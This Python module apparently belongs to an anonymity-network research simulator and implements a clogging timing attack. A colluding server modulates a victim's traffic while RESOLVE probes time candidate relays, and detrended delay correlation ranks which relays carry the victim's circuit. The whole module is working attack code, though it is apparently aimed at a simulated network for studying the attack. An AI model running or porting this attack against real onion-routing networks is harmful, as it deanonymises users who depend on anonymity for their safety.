"""Clogging attack: modulate a victim stream from the far end, probe candidate relays for correlated delay.

Attack-side code here only ever sees candidate node_ids, the consensus it
fetches like any client would, its own probe circuits, and the timing of the
pattern its colluding server emits.
"""

from __future__ import annotations

import logging
import math
from dataclasses import dataclass, field

import numpy as np

from ..client.node import CircuitState, OnionClient, ResolveTimeout
from ..transport import Deferred, Protocol

log = logging.getLogger(__name__)

PROBE_NAME = "probe.invalid"
MAX_LAG = 2


@dataclass(frozen=True)
class ModulationPattern:
    on_duration: float
    off_duration: float
    cycles: int
    on_rate: float
    tick: float = 0.01

    def __post_init__(self):
        if self.on_duration <= 0 or self.off_duration <= 0:
            raise ValueError("pattern durations must be > 0")
        if self.cycles < 1:
            raise ValueError("pattern needs at least one cycle")
        if self.on_rate < 0 or self.tick <= 0:
            raise ValueError("on_rate must be >= 0 and tick > 0")

    @property
    def period(self) -> float:
        return self.on_duration + self.off_duration

    @property
    def duration(self) -> float:
        return self.period * self.cycles

    def level(self, t: np.ndarray) -> np.ndarray:
        """Square wave in pattern time: 1 while on, 0 while off or outside the pattern."""
        t = np.asarray(t, dtype=float)
        inside = (t >= 0) & (t < self.duration)
        return (inside & (np.mod(t, self.period) < self.on_duration)).astype(float)


class ColludingServer(Protocol):
    """Destination under attacker control; once the victim speaks it starts the pattern.

    The first ``lead`` seconds are silent so probes settle before modulation.
    """

    def __init__(self, transport, pattern: ModulationPattern, lead: float = 1.0):
        self.transport = transport
        self.pattern = pattern
        self.lead = lead
        self.start_at: float | None = None
        self.started = Deferred()
        self.sent = 0
        self.conn = None

    def data_received(self, conn, data):
        if self.start_at is not None:
            return
        self.conn = conn
        self.start_at = self.transport.now() + self.lead
        self.started.resolve(self.start_at)
        p = self.pattern
        chunk = int(round(p.on_rate * p.tick))
        if chunk <= 0:
            return
        ticks_on = int(round(p.on_duration / p.tick))
        for c in range(p.cycles):
            base = self.lead + c * p.period
            for i in range(ticks_on):
                self.transport.call_later(base + i * p.tick, lambda n=chunk: self._emit(n))

    def _emit(self, n: int) -> None:
        if self.conn is not None and self.conn.is_open:
            self.conn.send(bytes(n))
            self.sent += n

    def connection_lost(self, conn, reason):
        self.conn = None


def colluding_factory(transport, pattern: ModulationPattern, lead: float = 1.0, servers: list | None = None):
    def make():
        server = ColludingServer(transport, pattern, lead)
        if servers is not None:
            servers.append(server)
        return server

    return make


@dataclass
class ProbeSeries:
    node_id: bytes
    samples: list[tuple[int, int]] = field(default_factory=list)
    lost: int = 0
    error: str | None = None

    def add(self, t_us: int, rtt_us: int) -> None:
        if self.samples and t_us < self.samples[-1][0]:
            raise ValueError("probe samples must be time-ordered")
        self.samples.append((t_us, rtt_us))

    @property
    def measured(self) -> bool:
        return self.error is None and len(self.samples) > 0

    def arrays(self) -> tuple[np.ndarray, np.ndarray]:
        if not self.samples:
            return np.zeros(0), np.zeros(0)
        a = np.asarray(self.samples, dtype=float)
        return a[:, 0] / 1e6, a[:, 1] / 1e6


class RelayProbe:
    """One-hop circuit to a single relay, sending one RESOLVE cell per interval.

    RESOLVE is answered by the first hop itself (an answer or a refusal), so the
    round trip crosses exactly the target's egress queue once.
    """

    def __init__(self, client: OnionClient, descriptor, interval: float):
        if interval <= 0:
            raise ValueError("probe interval must be > 0")
        self.client = client
        self.descriptor = descriptor
        self.interval = interval
        self.series = ProbeSeries(descriptor.node_id)
        self.circuit = client.build_circuit([descriptor])
        self.ready = self.circuit.built
        self.done = Deferred()
        self._outstanding = 0
        self._stop_at = None
        self.circuit.built.add_callback(self._built)

    def _built(self, d: Deferred) -> None:
        if d.error:
            self.series.error = str(d.error)
            log.warning("probe circuit to %s failed: %s", self.descriptor.node_id.hex()[:8], d.error)

    def run(self, start: float, duration: float) -> Deferred:
        """Probe at ``start + i*interval`` for i while below ``start + duration``; at least once."""
        t = self.client.transport
        self._stop_at = start + duration
        n = max(1, math.ceil(duration / self.interval))
        for i in range(n):
            t.call_later(max(0.0, start + i * self.interval - t.now()), self._fire)
        self._scheduled = n
        return self.done

    def _fire(self) -> None:
        circ = self.circuit
        if circ.state != CircuitState.OPEN:
            self.series.lost += 1
            self._settle()
            return
        t = self.client.transport
        sent = t.now()
        self._outstanding += 1

        def answered(d: Deferred):
            self._outstanding -= 1
            if d.error and isinstance(d.error, ResolveTimeout) or circ.state != CircuitState.OPEN:
                self.series.lost += 1
            else:
                self.series.add(round(sent * 1e6), round((t.now() - sent) * 1e6))
            self._settle()

        circ.resolve(PROBE_NAME).add_callback(answered)

    def _settle(self) -> None:
        self._scheduled -= 1
        if self._scheduled == 0 and not self.done.done:
            self.done.resolve(self.series)

    def close(self) -> None:
        self.circuit.close()


def probe_relay(net, client: OnionClient, descriptor, interval: float, duration: float) -> ProbeSeries:
    """Build a probe circuit, sample for ``duration`` and return the series (sim only)."""
    probe = RelayProbe(client, descriptor, interval)
    try:
        net.wait(probe.ready, timeout=60)
    except Exception as e:
        probe.series.error = probe.series.error or str(e)
        return probe.series
    net.wait(probe.run(net.now, duration), timeout=duration + 60)
    probe.close()
    return probe.series


def detrend(y: np.ndarray, t: np.ndarray) -> np.ndarray:
    if len(y) < 2 or np.ptp(t) == 0:
        return y - y.mean() if len(y) else y
    slope, intercept = np.polyfit(t, y, 1)
    return y - (slope * t + intercept)


def _pearson(x: np.ndarray, y: np.ndarray) -> float:
    if len(x) < 3:
        return 0.0
    xs, ys = x - x.mean(), y - y.mean()
    den = math.sqrt(float(xs @ xs) * float(ys @ ys))
    return float(xs @ ys) / den if den > 0 else 0.0


def correlation_score(series: ProbeSeries, pattern: ModulationPattern, start: float, max_lag: int = MAX_LAG) -> float:
    """Max over sample lags in [-max_lag, max_lag] of the Pearson correlation between
    the pattern's square wave and the linearly detrended RTT series."""
    t, rtt = series.arrays()
    if len(t) < 3:
        return 0.0
    wave = pattern.level(t - start)
    resid = detrend(rtt, t)
    n = len(t)
    best = -1.0
    for lag in range(-max_lag, max_lag + 1):
        # positive lag: the RTT response trails the wave by ``lag`` samples
        if lag >= 0:
            r = _pearson(wave[: n - lag], resid[lag:])
        else:
            r = _pearson(wave[-lag:], resid[: n + lag])
        best = max(best, r)
    return best


@dataclass
class ClogResult:
    scores: dict[str, float]
    ranking: list[str]
    unmeasured: list[str]
    warnings: list[str]
    series: dict[str, ProbeSeries]


class ClogAttack:
    """Probe every candidate relay while the colluding server modulates the victim's stream."""

    def __init__(self, net, prober: OnionClient, candidates: list[bytes], pattern: ModulationPattern, interval: float):
        self.net = net
        self.prober = prober
        self.candidates = list(candidates)
        self.pattern = pattern
        self.interval = interval
        self.probes: dict[bytes, RelayProbe] = {}
        self.warnings: list[str] = []

    def setup(self) -> None:
        """Fetch the consensus and build one probe circuit per candidate."""
        consensus = self.net.wait(self.prober.fetch_consensus(), timeout=60)
        for nid in self.candidates:
            desc = consensus.by_id(nid)
            if desc is None:
                self.warnings.append(f"candidate {nid.hex()[:16]} not in consensus; unmeasured")
                continue
            self.probes[nid] = RelayProbe(self.prober, desc, self.interval)
        for probe in self.probes.values():
            try:
                self.net.wait(probe.ready, timeout=60)
            except Exception as e:
                probe.series.error = probe.series.error or str(e)

    def run(self, start: float) -> ClogResult:
        """Probe across the whole pattern window (plus lag margin) and score each candidate."""
        margin = (MAX_LAG + 1) * self.interval
        begin = max(self.net.now, start - margin)
        duration = start + self.pattern.duration + margin - begin
        waits = [p.run(begin, duration) for p in self.probes.values() if p.series.error is None]
        for d in waits:
            self.net.wait(d, timeout=duration + 120)
        scores, unmeasured, series = {}, [], {}
        for nid in self.candidates:
            key = nid.hex()
            probe = self.probes.get(nid)
            if probe is None or not probe.series.measured:
                unmeasured.append(key)
                why = probe.series.error if probe is not None else "not in consensus"
                self.warnings.append(f"candidate {key[:16]} unmeasured ({why}); excluded from ranking")
                continue
            series[key] = probe.series
            scores[key] = correlation_score(probe.series, self.pattern, start)
        for probe in self.probes.values():
            probe.close()
        ranking = sorted(scores, key=lambda k: (-scores[k], k))
        return ClogResult(scores, ranking, unmeasured, self.warnings, series)
